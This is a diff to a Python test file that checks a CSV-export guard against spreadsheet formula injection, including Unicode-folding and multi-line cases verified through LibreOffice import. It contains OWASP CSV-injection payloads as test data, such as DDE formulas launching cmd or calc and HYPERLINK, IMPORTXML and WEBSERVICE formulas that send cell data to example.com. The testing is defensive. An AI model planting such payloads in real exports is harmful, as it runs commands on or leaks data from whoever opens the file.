@@ -7,7 +7,9 @@ from __future__ import annotations
 import csv
 import io
 import re
+import sys
 import tomllib
+import unicodedata
 import zipfile
 from datetime import date, datetime
 from pathlib import Path
@@ -19,11 +21,13 @@ from openpyxl import Workbook, load_workbook
 
 from tests import browser_support as bs
 from tests.conftest import ROOT
+from tests.libreoffice import convert, needs_libreoffice
 from tests.seeded import plant, source_copy
 from tests.workbook_factory import Book, save
 from tracker import csvsafe, settings
 from tracker.accounts import admin
 from tracker.catalogue import catalogues, criteria
+from tracker.exports import tables
 from tracker.ingest import contract, submissions, template
 from tracker.store import audit, db
 
@@ -34,11 +38,6 @@ ISSUE_10 = "Đã họp giao ban;" + CALC  # the text of issue 10
 def _rows(data: bytes) -> list[list[str]]:
     assert data.startswith(b"\xef\xbb\xbf"), "UTF-8 BOM expected"
     return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
-
-
-def _excel_vi_cells(line: str) -> list[str]:
-    """What Vietnamese-locale Excel makes of one CSV line: cells split on ';'."""
-    return line.split(";")
 
 
 # --- the rule -----------------------------------------------------------------------------
@@ -62,15 +61,66 @@ def _excel_vi_cells(line: str) -> list[str]:
         ("a;b;+c;d;-e", "a;b;'+c;d;'-e"),
         ("=a;=b", "'=a;'=b"),
         (" =1+1", "' =1+1"),
+        # Every line of a multi-line field (issue 32), whatever the line break.
+        ("Đã triển khai\n=1+1+N(", "Đã triển khai\n'=1+1+N("),
+        ("Dòng 1\r\n+1+1", "Dòng 1\r\n'+1+1"),
+        ("Dòng 1\r-2+3", "Dòng 1\r'-2+3"),
+        ("Dòng 1\u2028@SUM(A1)", "Dòng 1\u2028'@SUM(A1)"),
+        ("a\n b\n  =1", "a\n b\n'  =1"),
+        # Full-width and other forms that fold to = + - @ (NFKC), and the minus sign.
+        ("＝1+1", "'＝1+1"),
+        ("Kết quả;＋2+3", "Kết quả;'＋2+3"),
+        ("x\n－1", "x\n'－1"),
+        ("＠SUM(A1)", "'＠SUM(A1)"),
+        ("\u22122+3", "'\u22122+3"),
+        # Zero-width, no-break and ideographic spaces do not hide a formula.
+        ("\u200b=1+1", "'\u200b=1+1"),
+        ("Đã họp\n\ufeff\u2060=1", "Đã họp\n'\ufeff\u2060=1"),
+        ("\u00a0\u3000-5", "'\u00a0\u3000-5"),
     ],
 )
 def test_neutralise_prefixes_every_formula_looking_segment(text: str, expected: str) -> None:
     assert csvsafe.neutralise(text) == expected
     assert csvsafe.is_formula_like(text)
     assert csvsafe.restore(expected) == text
-    # Opened in an Excel that splits on ';', no cell starts with a formula character.
-    for cell in _excel_vi_cells(expected):
-        assert not cell.lstrip(' "').startswith(csvsafe.FORMULA_PREFIXES), cell
+    # Opened in an Excel that splits on ';', or a reader that loses the quotes and starts a
+    # row at each line, no cell starts with a formula character.
+    for cell in re.split("[" + "".join(csvsafe.SEGMENT_SEPARATORS) + "]", expected):
+        assert not _visible_start(cell).startswith(csvsafe.FORMULA_PREFIXES), cell
+
+
+def _visible_start(cell: str) -> str:
+    """The cell from its first visible character on, folded (NFKC) as a spreadsheet might."""
+    return unicodedata.normalize("NFKC", re.sub(f"^[{csvsafe.SKIPPED}]*", "", cell))
+
+
+def uncovered(skipped: str, starts: str, last: int = sys.maxunicode) -> list[str]:
+    """Characters up to `last` that the rule's classes miss: every invisible or space character
+    (Unicode Zs, Cf) must be in `skipped`, every one NFKC folds to = + - @ or the minus sign in
+    `starts` (the Unicode of the Python running the tests)."""
+    skipped_re, starts_re = re.compile(f"[{skipped}]"), re.compile(f"[{starts}]")
+    every = (chr(c) for c in range(last + 1) if not 0xD800 <= c <= 0xDFFF)
+    return [
+        f"U+{ord(ch):04X}"
+        for ch in every
+        if (unicodedata.category(ch) in {"Zs", "Cf"} and not skipped_re.match(ch))
+        or (
+            unicodedata.normalize("NFKC", ch)[:1] in {"=", "+", "-", "@", "\u2212"}
+            and not starts_re.match(ch)
+        )
+    ]
+
+
+def test_the_skipped_and_formula_characters_cover_this_unicode() -> None:
+    assert uncovered(csvsafe.SKIPPED, csvsafe.FORMULA_STARTS) == [], (
+        f"add to csvsafe.SKIPPED / FORMULA_STARTS (Unicode {unicodedata.unidata_version})"
+    )
+
+
+def test_seeded_violation_a_missing_character_is_reported() -> None:
+    skipped = csvsafe.SKIPPED.replace("\u2000-\u200f", "\u2000-\u200a\u200c-\u200f")
+    starts = csvsafe.FORMULA_STARTS.replace("\uff1d", "")
+    assert uncovered(skipped, starts, last=0xFFFF) == ["U+200B", "U+FF1D"]
 
 
 @pytest.mark.parametrize(
@@ -83,6 +133,8 @@ def test_neutralise_prefixes_every_formula_looking_segment(text: str, expected: 
         "Tốt:90;Khá:70;Trung bình:50;Yếu:0",
         "a - b; c - d",
         "'=đã có dấu nháy",
+        "Dòng 1\nDòng 2 - ý 2\r\nDòng 3",
+        "Kết quả: 2 = 1 + 1",
     ],
 )
 def test_plain_text_is_left_alone(text: str) -> None:
@@ -277,6 +329,101 @@ def test_criteria_xlsx_keeps_formula_looking_text_as_text(tmp_db: Path) -> None:
     rows, problems = criteria.parse_xlsx(data)
     assert problems == []
     assert rows[0]["title"] == CALC  # round trip: the text, not a formula's missing result
+
+
+# --- imported by LibreOffice with ',' and with ';': not one formula cell (issue 32) ------------
+
+# OWASP's CSV injection examples (owasp.org/www-community/attacks/CSV_Injection and the CSV
+# Injection Prevention Cheat Sheet), and the same with a quote or a separator placed to break
+# out of the field.
+OWASP_PAYLOADS = [
+    "=1+1",
+    CALC,
+    "=cmd|' /C notepad'!'A1'",
+    '=HYPERLINK("http://example.com/?leak="&A1&A2,"Error: please click for further information")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "+2+3+cmd|' /C calc'!A0",
+    "=10+20+cmd|' /C calc'!A0",
+    '=DDE("cmd";"/C calc";"!A0")A0',
+    "\n-3+3+cmd|' /C calc'!D2",  # OWASP's %0A-3+3+cmd…, the line feed decoded
+    '=IMPORTXML(CONCAT("http://example.com/?v=", CONCATENATE(A2:E2)), "//a")',
+    '=WEBSERVICE("http://example.com/"&A1)',
+    "\t=1+1",
+    "\r=1+1",
+    '"=1+1',
+    'x";=1+1',
+    'x","=1+1',
+    "a,=1+1",
+    ISSUE_10,
+]
+# Issue 32's: a formula split over two neighbouring cells' lines, and the forms that fold to a
+# formula character or hide it behind an invisible one.
+ISSUE_32_ROWS = [
+    ["Đã triển khai\n=1+1+N(", ")\nCông văn 12/CV"],
+    ["Đã họp\r\n+1+1", "Kết quả\r-2+3"],
+    ["＝1+1", "Dòng 1\n＋2+3"],
+    ["\u200b=1+1", "Dòng 1\n\ufeff@SUM(1+1)"],
+    ["\u3000=1+1", "Dòng 1\u2028=1+1"],
+]
+# LibreOffice's CSV import (help: "CSV Filter Options"): UTF-8, '"' quotes, token 13 = evaluate
+# formulas, as Excel does on opening a CSV.
+_IMPORT = "CSV:{separator},34,76,1,,0,false,true,false,false,false,0,true"
+
+
+def _payload_rows() -> list[list[str]]:
+    return [["OWASP", text, "Bình thường"] for text in OWASP_PAYLOADS] + [
+        ["Issue 32", *cells] for cells in ISSUE_32_ROWS
+    ]
+
+
+def formula_cells(data: bytes, separator: str, folder: Path) -> list[str]:
+    """The formulas LibreOffice Calc makes of a CSV file imported with `separator`."""
+    folder.mkdir(parents=True, exist_ok=True)
+    source = folder / "xuat.csv"
+    source.write_bytes(data)
+    out = convert(
+        source, "fods", folder / "calc", infilter=_IMPORT.format(separator=ord(separator))
+    )
+    return re.findall(r'table:formula="([^"]*)"', out.read_text(encoding="utf-8"))
+
+
+def _issue_32_detail_csv(users: dict) -> bytes:
+    """The detail CSV (page and `export detail`) after HCTC uploaded issue 32's two cells."""
+    book = Book()
+    row = next(r for r in book.progress if r["task_code"] == "II.1.a")
+    row["result_text"], row["evidence"] = ISSUE_32_ROWS[0]
+    result = submissions.submit(
+        book.to_bytes(), "hctc-w10.xlsx", users["don_vi"], now=datetime(2026, 3, 5, 10)
+    )
+    assert result.status == "accepted", result.errors
+    return tables.detail_csv("2026-W10")
+
+
+@pytest.mark.slow
+@needs_libreoffice
+@pytest.mark.parametrize("separator", [",", ";"])
+def test_libreoffice_finds_no_formula_in_the_exports(
+    users: dict, tmp_path: Path, separator: str
+) -> None:
+    payloads = csvsafe.rows_csv(["Nguồn", "Ô 1", "Ô 2"], _payload_rows())
+    assert formula_cells(payloads, separator, tmp_path / "payloads") == []
+    detail = _issue_32_detail_csv(users)
+    assert "Đã triển khai\n'=1+1+N(" in detail.decode("utf-8-sig")
+    assert formula_cells(detail, separator, tmp_path / "detail") == []
+
+
+@pytest.mark.slow
+@needs_libreoffice
+def test_seeded_violation_libreoffice_runs_the_unguarded_payloads(tmp_path: Path) -> None:
+    """The same rows written by a plain CSV writer: LibreOffice makes formulas of them with
+    either separator, among them issue 32's `=1+1+N(",")` with ';'. The check above can fail."""
+    out = io.StringIO()
+    csv.writer(out, lineterminator="\r\n").writerows(_payload_rows())
+    unguarded = (csvsafe.BOM + out.getvalue()).encode("utf-8")
+    assert len(formula_cells(unguarded, ",", tmp_path / "comma")) >= 5
+    semicolon = formula_cells(unguarded, ";", tmp_path / "semicolon")
+    assert "of:=1+1+N(&quot;,&quot;)" in semicolon
 
 
 @pytest.mark.browser
